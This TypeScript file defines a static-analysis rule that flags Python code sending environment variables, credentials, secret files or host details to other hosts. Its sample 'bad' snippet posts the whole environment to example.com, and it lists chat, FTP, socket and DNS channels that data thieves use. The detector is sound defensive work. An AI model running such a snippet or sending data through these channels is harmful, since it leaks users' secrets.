import type { Severity } from '../../model/finding.ts';
import { py } from '../../python/marked-example.ts';
import type { ValueSummary } from '../../resolve/fact.ts';
import type { Call } from '../call.ts';
import { analyzeFileUse, knownPaths } from '../file-use.ts';
import { nameTable } from '../name-table.ts';
import type { ProgramContext } from '../program-context.ts';
import { defineCallRule } from '../rule.ts';
import { describeCollector } from '../sinks/collectors.ts';
import { fileSinks } from '../sinks/files.ts';
import { networkSinks } from '../sinks/network.ts';
import { findSensitivePath } from '../sinks/paths.ts';
import { argument, carriedBy, sourcesOf, textsWithin } from '../trust.ts';

/** How data is sent: in a request or message, or as part of a host name. */
type Channel = 'message' | 'name';

export const exfiltration = defineCallRule({
  id: 'PY-EXFILTRATION',
  family: 'secret',
  cwe: 200,
  summary: 'Private data sent to another host',
  why:
    'Malware steals data this way: the environment, keys, stored passwords, the clipboard, the screen, the host and ' +
    'user names, or files sent to a chat or paste service. Send only data that the receiver needs and the user expects ' +
    'to be sent.',
  bad: py`
    import os
    import requests

    requests.post("https://example.com/", json=dict(os.environ), timeout=5)  # expect
  `,
  good: py`
    import os
    import requests

    requests.post(
        "https://example.com/", headers={"Authorization": os.environ["TOKEN"]}, json={"job": 3}, timeout=5
    )
  `,
  sinks: nameTable<Channel>([
    [networkSinks.patterns.join(' '), 'message'],
    [
      'socket.socket.send socket.socket.sendall socket.socket.sendto socket.create_connection.sendall ' +
        'socket.create_connection.send *.wrap_socket.sendall *.wrap_socket.send ftplib.FTP.storbinary ' +
        'ftplib.FTP_TLS.storbinary ftplib.FTP.storlines paramiko.SSHClient.open_sftp.put telegram.Bot.send_document ' +
        'telegram.Bot.send_message discord.SyncWebhook.send discord_webhook.DiscordWebhook dhooks.Webhook.send ' +
        'websocket.create_connection.send slack_sdk.WebClient.chat_postMessage slack_sdk.WebClient.files_upload ' +
        'telebot.TeleBot.send_message telebot.TeleBot.send_document telebot.TeleBot.send_photo asyncio.open_connection.write',
      'message',
    ],
    [
      'socket.gethostbyname socket.gethostbyname_ex socket.getaddrinfo dns.resolver.resolve dns.resolver.query ' +
        'dns.resolver.Resolver.resolve dns.resolver.Resolver.query dns.asyncresolver.resolve',
      'name',
    ],
  ]),
  check(call, channel, context) {
    // `Request` only prepares a request; `urlopen` sends it.
    if (networkSinks.find(call.name)?.opensLater) return null;
    const data = collectSentData(call);
    const found = data.map((one) => describeLeak(one, call, channel, context)).find((one) => one !== null);
    if (!found) return null;
    const [what, severity, receiver = 'another host'] = found;
    return {
      problem: channel === 'name' ? `sends ${what} as part of a host name` : `sends ${what} to ${receiver}`,
      severity,
      confidence: severity === 'error' ? 'high' : 'medium',
      kind: 'capability',
    };
  },
});

/** Options that hold credentials for the receiver, or no data at all. */
const ignoredOptions = new Set(
  'headers auth cookies timeout verify cert proxies context stream allow_redirects'.split(' '),
);

const collectSentData = (call: Call): readonly ValueSummary[] => [
  ...call.args,
  ...[...call.keywords].flatMap(([name, value]) => (ignoredOptions.has(name) ? [] : [value])),
];

function describeLeak(
  data: ValueSummary,
  call: Call,
  channel: Channel,
  context: ProgramContext,
): readonly [what: string, severity: Severity, receiver?: string] | null {
  const carried = carriedBy(data);
  const sources = sourcesOf(data);
  if (carried.has('environment')) return ['the whole environment', 'error'];
  if (carried.has('credentials')) return ['stored passwords or sessions', 'error'];
  if (sources.has('file') && readsSecrets(context)) return ['files with credentials', 'error'];
  if (carried.has('private')) return ['the clipboard, the screen or a recording', 'warning'];
  if (carried.has('host')) return ['the host name or the user name', 'warning'];
  const isLocal = sources.has('file') || sources.has('environment');
  if (!isLocal || sources.has('input') || data === addressOf(call)) return null;
  if (channel === 'name') return ['local data', 'warning'];
  const receiver = findReceiver(call, context);
  return receiver === null ? null : ['local data', 'warning', receiver];
}

/** The address of a request, which may contain a token for the receiver. */
const addressOf = (call: Call): ValueSummary | null => {
  const sink = networkSinks.find(call.name);
  return sink && sink.form !== 'later' ? argument(call, sink.at, sink.keyword) : null;
};

const readsSecrets = ({ calls, importedModules }: ProgramContext): boolean =>
  !importedModules.has('paramiko') &&
  calls.some((call) => {
    const sink = fileSinks.find(call.name);
    if (sink === undefined) return false;
    const { paths, writes } = analyzeFileUse(call, sink);
    return !writes && knownPaths(paths).some((path) => findSensitivePath(path)?.kind === 'secret');
  });

/** The data-collecting service that a call sends to. A socket sends to an address that another call connects to. */
function findReceiver(call: Call, { calls }: ProgramContext): string | null {
  const own = collectSentData(call)
    .flatMap(textsWithin)
    .map(describeCollector)
    .find((one) => one !== null);
  if (own) return own;
  const isConnected = !networkSinks.find(call.name) || networkSinks.find(call.name)!.form === 'later';
  if (!isConnected) return null;
  const addresses = calls
    .filter(({ name }) => networkSinks.find(name))
    .flatMap(({ args }) => args.flatMap(textsWithin));
  return addresses.map(describeCollector).find((one) => one !== null) ?? null;
}
